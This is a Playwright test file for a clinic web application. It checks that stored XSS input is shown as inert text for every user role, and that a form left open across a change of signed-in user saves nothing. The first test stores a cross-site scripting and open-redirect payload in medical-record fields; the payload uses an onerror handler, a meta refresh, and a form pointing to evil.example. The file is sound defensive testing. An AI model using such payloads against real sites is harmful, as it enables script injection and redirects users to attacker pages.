// What somebody typed stays text in a real browser, and a form is sent by the person for whom it was drawn.

import { ACCOUNT_OF, ROLES } from '../demo/accounts.mjs';
import { SHOWN } from '../demo/pages.mjs';
import { Rest } from '../demo/rest.mjs';
import { awake } from '../fixtures/accessibility.ts';
import { become, expect, signIn, test } from '../fixtures/test.ts';

test.use({ contextOptions: { reducedMotion: 'reduce' } });

const ODD =
  '</textarea></title></script>--><xss-a></xss-a><meta http-equiv=refresh content="0;url=https://evil.example/">' +
  '<form action=https://evil.example/><button>Continue</button><img src=x onerror="document.title=1"> ]]> {{7*7}}';
const SHORT = '</title></textarea><xss-a>';

test('no element and no way to another site comes out of what was typed, for any role', async ({ page, clinic }) => {
  test.setTimeout(300_000);
  const { chart, doctor } = await clinic.facts();
  const [patient, rivera] = await Promise.all([Rest.signedIn(clinic, 'patient'), Rest.signedIn(clinic, 'dr.rivera')]);
  const booked = await patient.book(doctor, await patient.firstFree(doctor, 30), ODD);
  expect(booked.status).toBe(201);
  const id = booked.body.patient;
  const medicine = { medication_name: SHORT, dosage: SHORT, frequency: SHORT, duration: SHORT, instructions: ODD };
  const note = { patient: id, diagnosis: ODD, symptoms: ODD, treatment: ODD, notes: ODD };
  const addresses = [`/appointments/${booked.body.appointment_id}`, '/appointments', '/dashboard', '/records', `/patients/${chart}`];
  for (const [kind, body] of [['records', note], ['prescriptions', { patient: id, ...medicine }]] as const) {
    const written = await rivera.send('POST', `/api/medical-records/${kind}/`, body);
    expect(written.status, JSON.stringify(written.body)).toBe(201);
    // As it is written, for its author, and signed, for its reader.
    const reference = written.body.record_id ?? written.body.prescription_id;
    addresses.push(`/records/${reference}`, `/patients/${chart}/notes/${reference}`, `/patients/${chart}/prescriptions/${reference}`);
    await rivera.send('POST', `/api/medical-records/${kind}/${written.body.id}/sign/`, {});
  }
  const facts = await clinic.facts();
  for (const role of ROLES) {
    await become(page, clinic, role);
    const shown = SHOWN.filter((site) => site.role === role).map(({ page: site }) => site.path(facts));
    for (const address of new Set([...shown, ...addresses])) {
      const answer = await page.request.get(address, { headers: { accept: 'text/html' } });
      if (answer.status() !== 200) continue;
      await page.goto(address);
      const odd = page.locator('xss-a, [onerror], meta[http-equiv], iframe, base, form[action^="http"], form[action^="//"]');
      await expect(odd, `${role} ${address}`).toHaveCount(0);
      expect(new URL(page.url()).origin, `${role} ${address}`).toBe(new URL(clinic.url).origin);
    }
    await page.context().clearCookies();
  }
});

for (const javaScriptEnabled of [true, false]) {
  test.describe(javaScriptEnabled ? 'with JavaScript' : 'without JavaScript', () => {
    test.use({ javaScriptEnabled });

    test('a form that was open while somebody else signed in stores nothing and waits for its own person', async ({ page, clinic }) => {
      await signIn(page, clinic, 'patient');
      await page.goto('/records/vitals/new');
      if (javaScriptEnabled) await awake(page);
      await page.locator('#field-heart_rate').fill('111');
      const other = await page.context().newPage();
      await other.context().clearCookies();
      await signIn(other, clinic, 'patient2');
      if (javaScriptEnabled) {
        // What a browser says when a page comes back to the front.
        await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
        const told = page.getByRole('alertdialog', { name: 'You are now signed in as someone else' });
        await expect(told).toBeVisible();
        await page.evaluate(() => document.querySelector<HTMLDialogElement>('#other-person')?.close());
      }
      await page.getByRole('main').locator('form').getByRole('button').last().click();
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('You are now signed in as someone else');
      await expect(page.getByText('Nothing was saved')).toBeVisible();
      const rest = await Rest.signedIn(clinic, 'patient2');
      expect(JSON.stringify(await rest.get('/api/medical-records/vitals/'))).not.toContain('111');
      await page.getByRole('button', { name: 'Sign in as the other person' }).click();
      await page.getByLabel('User name or e-mail').fill(ACCOUNT_OF.patient);
      await page.getByLabel('Password', { exact: true }).fill(clinic.password);
      await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click();
      await expect(page.locator('#field-heart_rate')).toHaveValue('111');
      await expect(page.getByText('What you typed is still here.')).toBeVisible();
    });
  });
}
